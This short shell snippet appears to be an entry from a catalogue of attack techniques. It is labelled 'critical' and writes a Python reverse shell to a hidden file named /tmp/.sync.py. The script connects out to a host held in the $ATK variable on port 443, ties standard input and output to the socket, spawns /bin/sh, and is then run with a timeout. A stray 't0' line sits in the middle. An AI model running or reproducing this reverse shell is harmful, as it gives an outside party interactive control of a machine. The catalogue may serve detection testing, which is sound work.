# SPDX-License-Identifier: MIT
# technique: python script: connect, dup2 onto 0-2, pty.spawn a shell
# level: critical
# quick: yes
cat >/tmp/.sync.py <<X
import os, pty, socket
s = socket.create_connection(("$ATK", 443))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/sh")
X
t0
timeout 8 python3 /tmp/.sync.py
